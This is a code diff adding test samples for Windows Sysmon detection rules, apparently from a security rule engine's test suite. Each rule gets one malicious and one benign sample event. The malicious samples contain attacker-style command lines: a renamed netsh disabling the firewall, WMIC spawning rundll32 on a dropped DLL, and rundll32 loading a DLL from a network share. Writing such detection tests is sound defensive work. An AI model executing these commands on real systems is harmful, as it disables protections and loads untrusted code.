@@ -253,6 +253,34 @@ ParameterBinding(Set-GPRegistryValue): name="Key"; value="HKLM\Software\Microsof
 				"ParentImage": `C:\Windows\System32\cmd.exe`,
 			},
 		},
+		{
+			ID:      "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":            `C:\Users\Public\update.exe`,
+				"OriginalFileName": `netsh.exe`,
+				"CommandLine":      `update.exe advfirewall set allprofiles state off`,
+				"ParentImage":      `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "daa4bb6e-4bf2-40bf-9b27-d573427b031a", // WMIC Creates a Process or Targets a Remote Node
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\wbem\WMIC.exe`,
+				"CommandLine": `wmic /node:127.0.0.1 process call create "rundll32.exe C:\Users\Public\a.dll,StartW"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "7ce3e5f9-1b80-447a-8a0f-4c9b6f1d3e52", // Rundll32 Loads a DLL From a Network Share
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\rundll32.exe`,
+				"CommandLine": `rundll32.exe \\172.16.205.1\pwn\test.dll,0`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
 	}...)
 
 	ruleNegatives = append(ruleNegatives, []ruleSample{
@@ -460,6 +488,34 @@ ParameterBinding(Get-ADUser): name="Identity"; value="krbtgt"`,
 				"Image":       `C:\Windows\System32\vssadmin.exe`,
 				"CommandLine": `vssadmin list shadows`,
 				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":            `C:\Windows\System32\NETSH.EXE`,
+				"OriginalFileName": `netsh.exe`,
+				"CommandLine":      `netsh wlan show interfaces`,
+				"ParentImage":      `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "daa4bb6e-4bf2-40bf-9b27-d573427b031a", // WMIC Creates a Process or Targets a Remote Node
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\wbem\WMIC.exe`,
+				"CommandLine": `wmic /node:localhost os get caption`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		{
+			ID:      "7ce3e5f9-1b80-447a-8a0f-4c9b6f1d3e52", // Rundll32 Loads a DLL From a Network Share
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\rundll32.exe`,
+				"CommandLine": `"C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,Control_RunDLL desk.cpl`,
+				"ParentImage": `C:\Windows\explorer.exe`,
 			},
 		},
 	}...)
